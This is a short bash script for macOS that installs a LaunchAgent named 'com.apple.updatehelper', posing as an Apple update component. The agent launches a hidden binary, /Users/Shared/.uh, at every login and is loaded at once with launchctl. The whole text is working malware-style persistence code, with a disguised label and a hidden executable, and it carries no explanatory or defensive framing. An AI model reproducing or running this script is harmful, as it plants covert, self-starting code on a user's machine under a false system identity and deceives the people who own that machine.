#!/usr/bin/env bash
mkdir -p ~/Library/LaunchAgents
cat > ~/Library/LaunchAgents/com.apple.updatehelper.plist <<EOF
<plist><dict><key>Label</key><string>com.apple.updatehelper</string>
<key>ProgramArguments</key><array><string>/Users/Shared/.uh</string></array>
<key>RunAtLoad</key><true/></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.apple.updatehelper.plist
